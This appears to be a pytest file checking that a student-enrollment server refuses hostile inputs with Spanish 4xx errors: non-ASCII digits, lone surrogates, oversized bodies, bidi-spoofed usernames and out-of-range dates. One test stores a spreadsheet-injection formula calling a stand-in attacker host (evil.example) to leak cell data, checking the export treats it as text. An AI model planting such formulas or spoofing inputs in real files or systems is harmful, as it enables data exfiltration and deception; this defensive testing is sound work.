"""Input hardening (#13 item 8), written from the attacker's side: each hostile input is
refused with a Spanish 4xx JSON error and nothing is written — never a 500."""
from __future__ import annotations

import io
import json
import socket
import time
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from server.db.models import SaeRecord, StudentRow
from station.domain import FieldError, validate_curp, validate_matricula
from tests.server.attackers import TestStation, bearer, op_body, push
from tests.server.helpers import csv_bytes, matricula, sae_row, upload_for
from station.domain.demo import DEMO_CONSENT

#: Digits that ``str.isdigit`` and ``\d`` accept but no matrícula or CURP contains.
SCRIPTS = {
    "fullwidth": str.maketrans("0123456789", "０１２３４５６７８９"),
    "arabic-indic": str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩"),
    "devanagari": str.maketrans("0123456789", "०१२३४५६७८९"),
}
CURP = "TEMG080312HDFLRBA3"


def assert_spanish_error(r, status: int, field: str | None = None):
    assert r.status_code == status, (r.status_code, r.text)
    error = r.json()["error"]
    assert error["code"] and error["message"]
    if field is not None:
        assert error["field"] == field, error


@pytest.mark.parametrize("script", SCRIPTS)
def test_validators_refuse_non_ascii_digits(script):
    table = SCRIPTS[script]
    with pytest.raises(FieldError) as exc:
        validate_matricula("180010051-1".translate(table))
    assert exc.value.field == "matricula"
    curp = sae_row(matricula(1, 1))[0]
    validate_curp(curp)
    with pytest.raises(FieldError) as exc:
        validate_curp(curp.translate(table))
    assert exc.value.field == "curp"


@pytest.mark.parametrize("script", SCRIPTS)
def test_non_ascii_digit_matricula_refused_on_every_endpoint(server, script):
    real = server.find("ENROLLED")
    fake = real.translate(SCRIPTS[script])
    before = server.call("admin", "GET", f"/students/{real}").json()
    for method, path, kw in (
        ("GET", f"/students/{fake}", {}),
        ("GET", f"/sae/{fake}", {}),
        ("POST", f"/sae/{fake}/import", {}),
        ("POST", f"/sae/{fake}/update", {}),
        ("POST", f"/students/{fake}/commands", {"json": {"command": "comment", "payload": {"comment": "x"}}}),
        ("GET", f"/students/{fake}/arco", {}),
    ):
        r = server.call("admin", method, path, **kw)
        assert r.status_code in (404, 422), (path, r.status_code, r.text)
        assert r.status_code != 404 or r.json()["error"]["code"] != "internal_error"
        assert "error" in r.json()
    assert server.call("admin", "GET", f"/students/{real}").json() == before


def test_sae_file_with_non_ascii_digit_curp_or_matricula_stores_nothing_of_them(server):
    good = sae_row(matricula(1, 401))
    fw_curp = sae_row(matricula(1, 402))
    fw_curp[0] = fw_curp[0].translate(SCRIPTS["fullwidth"])
    ar_mat = sae_row(matricula(1, 403).translate(SCRIPTS["arabic-indic"]))
    r = server.call("estatal", "POST", "/sae/files", params={"filename": "sae.csv"},
                    data=csv_bytes([good, fw_curp, ar_mat]), headers={"Content-Type": "text/csv"})
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["imported"] == 1 and body["refused"] == 2, body
    assert {e["field"] for e in body["errors"]} == {"curp", "matricula"}
    with server.db() as s:
        assert s.get(SaeRecord, matricula(1, 401)) is not None
        assert s.get(SaeRecord, matricula(1, 402)) is None
        stored = s.scalars(select(SaeRecord.curp)).all()
    assert not any(c and not c.isascii() for c in stored)


@pytest.mark.parametrize("body", [
    b'{"username": "\\ud800", "password": "x"}',
    b'{"username": "operador", "password": "\\udfff"}',
    b'{"username": "a\\ud83dz", "password": "x"}',
])
def test_lone_surrogate_in_json_is_422_not_500(server, body):
    r = server.session.post(server.base + "/auth/login", data=body, headers={"Content-Type": "application/json"})
    assert_spanish_error(r, 422)


def test_lone_surrogate_in_a_command_comment_is_422_and_writes_nothing(server):
    """Command payloads are free-form JSON objects: a lone surrogate there reached the database (500)."""
    station = TestStation(server, "surrogate-" + server.backend, campuses=["001"])
    token = station.sign_in("supervisor")
    m = server.find("CAPTURED")
    before = server.call("admin", "GET", f"/students/{m}").json()
    op = op_body(station.station_id, m, "defer", "supervisor", payload={"comment": "X\ud800"})
    r = server.session.post(server.base + "/sync/commands", data=json.dumps(op).encode(),
                            headers={**bearer(token), "Content-Type": "application/json", "Idempotency-Key": op["op_id"]})
    assert_spanish_error(r, 422)
    r = server.call("supervisor", "POST", f"/students/{m}/commands",
                    data=json.dumps({"command": "defer", "payload": {"comment": "X\udc00"}}).encode(),
                    headers={"Content-Type": "application/json"})
    assert_spanish_error(r, 422)
    assert server.call("admin", "GET", f"/students/{m}").json() == before
    # a real pair (an emoji) is not refused by the JSON layer
    r = server.session.post(server.base + "/auth/login", data=b'{"username": "x\\ud83d\\ude00", "password": "x"}',
                            headers={"Content-Type": "application/json"})
    assert r.status_code == 401, r.text


@pytest.mark.parametrize("path,ctype", [("/auth/login", "application/json"), ("/auth/challenge", "application/json"),
                                        ("/auth/login", "text/plain")])
def test_large_unauthenticated_body_refused_before_it_is_read(server, path, ctype):
    """An anonymous client declares 400 MB and sends 64 KB: 413 at once, the rest never read."""
    url = urlsplit(server.base)
    with socket.create_connection((url.hostname, url.port), timeout=20) as sock:
        sock.sendall((f"POST {path} HTTP/1.1\r\nHost: {url.hostname}\r\nContent-Type: {ctype}\r\n"
                      f"Content-Length: {400 * 1024 * 1024}\r\n\r\n").encode())
        try:
            sock.sendall(b"{" + b" " * 65536)
        except OSError:
            pass  # the server may already have answered and closed
        answer = b""
        while b"\r\n\r\n" not in answer:
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
    status = answer.split(b" ", 2)[1]
    assert status == b"413", answer[:300]
    assert "demasiado grande".encode() in answer or b"\r\n\r\n" in answer


def test_small_limit_for_unauthenticated_routes(server):
    big = b'{"username": "operador", "password": "' + b"x" * 20_000 + b'"}'
    r = server.session.post(server.base + "/auth/login", data=big, headers={"Content-Type": "application/json"})
    assert_spanish_error(r, 413)
    assert "demasiado grande" in r.json()["error"]["message"]
    chunked = server.session.post(server.base + "/auth/login", data=iter([big[:10_000], big[10_000:]]),
                                  headers={"Content-Type": "application/json"})
    assert_spanish_error(chunked, 413)


def test_formula_in_a_comment_is_a_text_cell_in_the_plantel_xlsx(server):
    m = server.find("ENROLLED")
    evil = '=HYPERLINK("http://evil.example/?d="&A2,"clic")'
    with server.db() as s:
        s.get(StudentRow, m).comment = evil
        s.commit()
    r = server.call("estatal", "GET", "/reports/campus/001/students.xlsx")
    assert r.status_code == 200, r.text
    ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_boolean_seq_is_refused_and_writes_nothing(server):
    """``"seq": true`` was read as 1: strict types on command payloads."""
    station = TestStation(server, "strict-" + server.backend, campuses=["001"])
    token = station.sign_in("supervisor")
    m = server.find("CAPTURED")
    before = server.call("admin", "GET", f"/students/{m}").json()
    op = op_body(station.station_id, m, "defer", "supervisor", payload={"comment": "revisar"}, seq=True)
    r = push(server, token, op)
    assert_spanish_error(r, 422, "seq")
    assert server.call("admin", "GET", f"/students/{m}").json() == before


@pytest.mark.parametrize("valid_until", ["9999-12-31", "1900-01-01"])
def test_valid_until_out_of_range_is_refused(server, valid_until):
    m = server.find("ENROLLED")
    photo, sig = upload_for(server, "operador", m)
    r = server.call("operador", "POST", f"/students/{m}/commands",
                    json={"command": "capture",
                          "payload": {"photo_sha256": photo, "signature_sha256": sig, **DEMO_CONSENT}})
    assert r.status_code == 200, r.text
    before = r.json()
    r = server.call("supervisor", "POST", f"/students/{m}/commands", json={
        "command": "validate", "payload": {"health_institution": "IMSS", "affiliation_number": "26180366723",
                                           "valid_until": valid_until}})
    assert_spanish_error(r, 422, "valid_until")
    assert "vigencia" in r.json()["error"]["message"]
    assert server.call("admin", "GET", f"/students/{m}").json() == before


@pytest.mark.parametrize("username", [
    "u" * 65, "u" * 80,            # PostgreSQL answered 500 (the audit row's entity_id holds 64)
    "ana\u202egnp.exe",            # right-to-left override: reads as another name in the audit
    "ana\u200f", "ana\x07", "ana\nroot", "ana\u0085",
])
def test_bad_usernames_are_refused_on_both_databases(server, username):
    r = server.call("admin", "POST", "/users", json={"username": username, "password": "larga-1234!",
                                                      "role": "operator", "campuses": ["001"]})
    assert_spanish_error(r, 422, "username")
    assert not any(u["username"] == username for u in server.call("admin", "GET", "/users").json())


def test_cli_refuses_a_bidi_username(server, monkeypatch, capsys):
    from server.cli import main

    monkeypatch.setattr("sys.stdin", io.StringIO("larga-1234!\n"))
    name = "ana\u202egnp"
    code = main(["create-user", "--db", server.url, name, "--role", "operator", "--campus", "001",
                 "--password-stdin"])
    assert code == 1  # the CLI's refusal code (tests/server/test_cli.py)
    assert "nombre de usuario" in capsys.readouterr().err
    assert not any(u["username"] == name for u in server.call("admin", "GET", "/users").json())
